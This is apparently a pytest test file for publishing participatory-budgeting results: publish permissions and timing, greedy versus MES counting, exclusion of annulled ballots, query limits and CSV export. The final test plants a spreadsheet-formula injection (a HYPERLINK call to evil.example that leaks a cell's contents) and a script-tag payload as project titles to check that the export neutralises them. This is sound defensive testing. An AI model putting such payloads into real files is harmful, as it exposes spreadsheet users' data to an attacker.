"""Counting a cycle from the database and publishing its result.

* who may publish, and when (from the results phase on, once, by a manager of the territory);
* what is stored is exactly the tally engine's outcome on ``cycle_instance`` for every rule;
* greedy and MES differ where they should: MES funds a minority's project that greedy skips;
* annulled ballots are not counted; the per-voter share of MES is the budget over counted ballots;
* the results page's rows and per-mahalla table read the stored record in constant queries;
* the CSV neutralises spreadsheet formulas and keeps markup as inert text.
"""

from __future__ import annotations

import csv
import io
import random
from datetime import timedelta

import pytest
from wagtail.models import ModelLogEntry

from participation.exceptions import ServiceError
from participation.models import StaffRoleKind
from proposals.budgeting.models import BallotAnnulment, CycleResult, ImplementationStatus, Participation, ProjectStatus
from proposals.budgeting.selectors.integrity import cycle_turnout
from proposals.budgeting.services import results as svc
from proposals.budgeting.tally import methods as tally
from tests.fixtures.budgeting import cast
from tests.fixtures.clock import T0

RULES = ["greedy", "mes", "mes-add1", "mes-add1-comparison"]


@pytest.fixture
def manager(tree, make_staff):
    return make_staff(StaffRoleKind.MANAGER, tree.yangiqorgon)


@pytest.fixture
def small_cycle(make_cycle, make_project):
    """A cycle in its results phase with budget 100 and three projects, voted on."""

    def make(rule="greedy", phase="results", **options):
        cycle = make_cycle(phase, budget=100, max_project_cost=100, winner_rule=rule, max_choices=3, **options)
        a = make_project(cycle, cost=50, title="A")
        b = make_project(cycle, cost=50, title="B")
        c = make_project(cycle, cost=40, title="C")
        return cycle, a, b, c

    return make


# ---------------------------------------------------------------- who and when


def test_publish_is_refused_before_the_results_phase(small_cycle, manager):
    cycle, a, b, _c = small_cycle(phase="voting")
    cast(cycle, [a], [a, b])
    with pytest.raises(ServiceError) as info:
        svc.cycle_publish_results(cycle, staff=manager, now=T0)
    assert info.value.message == svc.PUBLISH_TOO_EARLY
    cycle.refresh_from_db()
    assert cycle.results_published_at is None
    assert not CycleResult.objects.exists()
    assert set(cycle.projects.values_list("status", flat=True)) == {ProjectStatus.FEASIBLE}
    # The last second of voting is still too early; the first of the results phase is not.
    results_start = cycle.phases.get(kind="results").starts_at
    with pytest.raises(ServiceError):
        svc.cycle_publish_results(cycle, staff=manager, now=results_start - timedelta(seconds=1))
    svc.cycle_publish_results(cycle, staff=manager, now=results_start)
    assert CycleResult.objects.filter(cycle=cycle).exists()


@pytest.mark.parametrize("who", ["moderator", "responder", "zomin_manager", "resident"])
def test_publish_is_refused_to_anyone_but_a_manager_of_the_territory(who, tree, small_cycle, make_staff, resident):
    cycle, a, _b, _c = small_cycle()
    cast(cycle, [a])
    staff = {
        "moderator": lambda: make_staff(StaffRoleKind.MODERATOR, tree.yangiqorgon),
        "responder": lambda: make_staff(StaffRoleKind.RESPONDER, tree.yangiqorgon),
        "zomin_manager": lambda: make_staff(StaffRoleKind.MANAGER, tree.zomin),
        "resident": lambda: resident(),
    }[who]()
    with pytest.raises(ServiceError) as info:
        svc.cycle_publish_results(cycle, staff=staff, now=T0)
    assert info.value.message == svc.PUBLISH_NOT_ALLOWED
    cycle.refresh_from_db()
    assert cycle.results_published_at is None and not CycleResult.objects.exists()


def test_a_regional_manager_may_publish(tree, small_cycle, make_staff):
    cycle, a, _b, _c = small_cycle()
    cast(cycle, [a])
    svc.cycle_publish_results(cycle, staff=make_staff(StaffRoleKind.MANAGER, tree.namangan), now=T0)
    assert cycle.results_published_at == T0


def test_publish_twice_is_refused_and_keeps_the_first_result(small_cycle, manager):
    cycle, a, _b, _c = small_cycle()
    cast(cycle, [a], [a])
    first = svc.cycle_publish_results(cycle, staff=manager, now=T0)
    with pytest.raises(ServiceError) as info:
        svc.cycle_publish_results(cycle, staff=manager, now=T0 + timedelta(hours=1))
    assert info.value.message == svc.PUBLISH_ALREADY
    assert CycleResult.objects.get(cycle=cycle).computed_at == first.computed_at == T0
    assert ModelLogEntry.objects.filter(action="proposals.results_published").count() == 1


def test_publishing_stores_the_count_marks_projects_and_erases_addresses(small_cycle, manager, resident, make_project):
    cycle, a, b, c = small_cycle("greedy")
    withdrawn = make_project(cycle, status=ProjectStatus.WITHDRAWN, cost=10, title="Withdrawn")
    cast(cycle, [a, b], [a], [c], [a, c])
    for index in range(3):
        Participation.objects.create(
            cycle=cycle, user=resident(), voted_hour=T0 - timedelta(days=10), ip=f"10.0.0.{index}", device="phone"
        )
    result = svc.cycle_publish_results(cycle, staff=manager, now=T0)

    # Greedy: A (3 votes) then C (2) fit 90 of 100; B (1) no longer fits.
    assert result.rule == "greedy"
    assert result.selected == result.greedy_selected == [a.pk, c.pk]
    assert result.votes == {str(a.pk): 3, str(b.pk): 1, str(c.pk): 2}
    assert (result.ballots_counted, result.ballots_annulled, result.participants) == (4, 0, 3)
    # Who could vote, counted once now (the results page reads it, never recounts it).
    assert result.eligible == cycle_turnout(cycle, now=T0)["eligible"] >= 3
    cycle.refresh_from_db()
    assert cycle.results_published_at == T0
    statuses = dict(cycle.projects.values_list("pk", "status"))
    assert statuses == {
        a.pk: ProjectStatus.SELECTED,
        b.pk: ProjectStatus.NOT_SELECTED,
        c.pk: ProjectStatus.SELECTED,
        withdrawn.pk: ProjectStatus.WITHDRAWN,
    }
    planned = dict(cycle.projects.values_list("pk", "implementation_status"))
    assert planned[a.pk] == planned[c.pk] == ImplementationStatus.PLANNED and planned[b.pk] == ""
    # The anomaly flags end with the count; the address and device they needed go with them.
    assert set(Participation.objects.values_list("ip", "device")) == {(None, "")}
    entry = ModelLogEntry.objects.get(action="proposals.results_published")
    assert entry.user_id == manager.pk and entry.data["selected"] == [a.pk, c.pk]


# ---------------------------------------------------------------- the count is the engine's


def random_cycle(seed, rule, make_cycle, make_project):
    rng = random.Random(seed)
    budget = rng.randint(60, 150)
    cycle = make_cycle(
        "results", budget=budget, max_project_cost=budget, winner_rule=rule, max_choices=8, title=f"Random {seed}"
    )
    projects = [make_project(cycle, cost=rng.randint(5, min(60, budget))) for _ in range(rng.randint(3, 7))]
    ballots = [rng.sample(projects, rng.randint(1, len(projects))) for _ in range(rng.randint(3, 15))]
    cast(cycle, *ballots)
    return cycle, projects


@pytest.mark.parametrize("rule", RULES)
@pytest.mark.parametrize("seed", range(4))
def test_stored_result_is_the_engine_outcome_on_cycle_instance(seed, rule, make_cycle, make_project, manager):
    cycle, projects = random_cycle(seed, rule, make_cycle, make_project)
    instance = svc.cycle_instance(cycle)
    by_id = {svc.project_pb_id(project): project.pk for project in projects}
    expected = [by_id[pid] for pid in tally.RULES[rule](instance).selected]
    expected_greedy = [by_id[pid] for pid in tally.greedy(instance).selected]
    result = svc.cycle_publish_results(cycle, staff=manager, now=T0)
    assert result.selected == expected  # same projects, in the order the rule funded them
    assert result.greedy_selected == expected_greedy
    assert sum(p.cost for p in projects if p.pk in result.selected) <= cycle.budget


def test_cycle_instance_reads_counted_ballots_on_ballot_projects(small_cycle, make_project, manager):
    cycle, a, b, c = small_cycle()
    rejected = make_project(cycle, status=ProjectStatus.NOT_FEASIBLE, cost=10)
    annulment = BallotAnnulment.objects.create(
        cycle=cycle, criterion="test", reason="test", staff=manager, created_at=T0, count=1
    )
    cast(cycle, [a, b], [c])
    cast(cycle, [a, b, c], annulment=annulment)
    instance = svc.cycle_instance(cycle)
    assert instance.vote_type == "approval" and instance.budget == 100
    assert {pid: int(p.cost) for pid, p in instance.projects.items()} == {str(a.pk): 50, str(b.pk): 50, str(c.pk): 40}
    assert str(rejected.pk) not in instance.projects
    assert sorted(ballot.projects for ballot in instance.ballots) == sorted(
        [tuple(sorted([str(a.pk), str(b.pk)])), (str(c.pk),)]
    )
    assert [ballot.voter_id for ballot in instance.ballots] == ["1", "2"]


def test_points_ballots_are_counted_by_points(make_cycle, make_project, manager):
    cycle = make_cycle("results", ballot_type="cumulative", points_total=10, budget=100, max_project_cost=100)
    a, b, c = (make_project(cycle, cost=60, title=t) for t in "ABC")
    # A: 4 voters with 1 point each (4); B: one voter with 9 points (9); C: 3 + 3 (6).
    cast(cycle, {a: 1, b: 9}, {a: 1, c: 3}, {a: 1, c: 3}, {a: 1})
    instance = svc.cycle_instance(cycle)
    assert instance.vote_type == "cumulative"
    result = svc.cycle_publish_results(cycle, staff=manager, now=T0)
    assert result.votes == {str(a.pk): 4, str(b.pk): 9, str(c.pk): 6}
    assert result.selected == [b.pk]  # most points first; nothing else fits in the 40 left


def test_mes_funds_the_minority_project_that_greedy_skips(small_cycle, manager):
    """Six voters want A and B, four want only C. Greedy spends everything on the majority
    (A and B, 100 of 100). Under MES each voter holds 10: the six pay 50 for A and have 10
    left, too little for B; the four hold exactly C's 40, so the minority gets its project."""
    cycle, a, b, c = small_cycle("mes")
    cast(cycle, *([[a, b]] * 6), *([[c]] * 4))
    svc.cycle_publish_results(cycle, staff=manager, now=T0)
    rows = {row.project.title: row for row in svc.result_rows(cycle)}
    assert (rows["A"].funded_by_rule, rows["B"].funded_by_rule, rows["C"].funded_by_rule) == (True, False, True)
    assert (rows["A"].funded_by_greedy, rows["B"].funded_by_greedy, rows["C"].funded_by_greedy) == (
        True,
        True,
        False,
    )
    assert svc.result_summary(cycle).cost_selected == 90
    assert svc.result_summary(cycle).cost_greedy == 100


def test_annulled_ballots_are_not_counted(small_cycle, manager):
    cycle, a, b, c = small_cycle("greedy")
    cast(cycle, [a], [a], [c])
    annulment = BallotAnnulment.objects.create(
        cycle=cycle, criterion="one address, one hour", reason="bulk", staff=manager, created_at=T0, count=3
    )
    cast(cycle, [b], [b], [b], annulment=annulment)  # would have made B the top project
    result = svc.cycle_publish_results(cycle, staff=manager, now=T0)
    assert (result.ballots_counted, result.ballots_annulled) == (3, 3)
    assert result.votes[str(b.pk)] == 0
    assert result.selected == [a.pk, c.pk]


def test_mes_share_is_the_budget_over_counted_ballots(small_cycle, manager):
    """Annulled ballots do not keep a share: with them counted, C's four voters would hold 4 *
    100/12 < 40 and could not fund it."""
    cycle, a, b, c = small_cycle("mes")
    cast(cycle, *([[a, b]] * 6), *([[c]] * 4))
    annulment = BallotAnnulment.objects.create(
        cycle=cycle, criterion="night burst", reason="x", staff=manager, created_at=T0, count=2
    )
    cast(cycle, [a], [a], annulment=annulment)
    result = svc.cycle_publish_results(cycle, staff=manager, now=T0)
    assert c.pk in result.selected


# ---------------------------------------------------------------- the results page


def test_result_rows_are_what_was_announced(small_cycle, manager):
    cycle, a, b, c = small_cycle("greedy")
    cast(cycle, [a, b], [a], [c], [a, c])
    assert svc.result_rows(cycle) == [] and svc.result_summary(cycle) is None
    svc.cycle_publish_results(cycle, staff=manager, now=T0)
    # Later changes to ballots cannot change what was published (and the object the page held
    # before publishing shows the result at once).
    cast(cycle, [b], [b], [b], [b])
    rows = svc.result_rows(cycle)
    assert [(row.project.title, row.votes, row.cost, row.funded_by_rule, row.funding_order) for row in rows] == [
        ("A", 3, 50, True, 1),
        ("C", 2, 40, True, 2),
        ("B", 1, 50, False, None),
    ]
    summary = svc.result_summary(cycle)
    assert (summary.funded_count, summary.cost_selected, summary.ballots_counted) == (2, 90, 4)


def test_results_by_mahalla(tree, small_cycle, make_project, manager):
    cycle, a, b, c = small_cycle("mes")
    d = make_project(cycle, cost=10, title="D", mahalla=tree.istiqlol)
    cast(cycle, *([[a, b]] * 6), *([[c, d]] * 4))
    svc.cycle_publish_results(cycle, staff=manager, now=T0)
    rows = svc.results_by_mahalla(cycle)
    assert [
        (r.mahalla.name_uz, r.projects, r.funded_count, r.funded_cost, r.greedy_count, r.greedy_cost) for r in rows
    ] == [("Navbahor", 3, 2, 90, 2, 100), ("Istiqlol", 1, 0, 0, 0, 0)]


@pytest.mark.parametrize("count", [3, 30])
def test_result_queries_do_not_grow_with_projects(
    count, tree, make_cycle, make_project, manager, django_assert_max_num_queries
):
    cycle = make_cycle("results", budget=1000, max_project_cost=1000, winner_rule="mes")
    mahallas = [tree.navbahor, tree.istiqlol]
    projects = [make_project(cycle, cost=30 + i, mahalla=mahallas[i % 2]) for i in range(count)]
    cast(cycle, *[projects[i::3] for i in range(3)], projects[:2])
    svc.cycle_publish_results(cycle, staff=manager, now=T0)
    fresh = type(cycle).objects.get(pk=cycle.pk)
    with django_assert_max_num_queries(2):
        rows = svc.result_rows(fresh)
    assert len(rows) == count
    fresh = type(cycle).objects.get(pk=cycle.pk)
    with django_assert_max_num_queries(2):
        by_mahalla = svc.results_by_mahalla(fresh)
    assert sum(row.projects for row in by_mahalla) == count
    fresh = type(cycle).objects.get(pk=cycle.pk)
    with django_assert_max_num_queries(2):
        assert svc.results_csv(fresh).count("\n") == count + 1


@pytest.mark.parametrize("count", [3, 30])
def test_cycle_instance_takes_two_queries(count, make_cycle, make_project, django_assert_num_queries):
    cycle = make_cycle("results", budget=1000, max_project_cost=1000)
    projects = [make_project(cycle, cost=30) for _ in range(count)]
    cast(cycle, *[[p] for p in projects], projects)
    with django_assert_num_queries(2):  # the projects, then the ballots with their choices
        instance = svc.cycle_instance(cycle)
    assert len(instance.ballots) == count + 1


# ---------------------------------------------------------------- CSV


def test_results_csv_neutralises_formulas_and_keeps_markup_inert(small_cycle, manager):
    cycle, a, b, c = small_cycle("greedy")
    a.title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    a.save()
    b.title = '<script>alert("x")</script>, "quoted"; semi'
    b.save()
    c.title = "@SUM(1+1)"
    c.save()
    cast(cycle, [a, b], [a], [c])
    svc.cycle_publish_results(cycle, staff=manager, now=T0)
    text = svc.results_csv(cycle)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0] == ["id", "title", "mahalla", "category", "cost", "votes", "funded", "funded_by_greedy"]
    titles = {row[0]: row[1] for row in rows[1:]}
    assert titles[str(a.pk)] == "'" + a.title  # a spreadsheet shows the text, never runs it
    assert titles[str(c.pk)] == "'@SUM(1+1)"
    assert titles[str(b.pk)] == b.title  # commas and quotes stay inside one cell
    assert all(len(row) == 8 for row in rows)
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id[str(a.pk)][4:] == ["50", "2", "1", "1"]
    assert by_id[str(b.pk)][2:4] == ["Navbahor", "Internal roads"]  # names in the active language
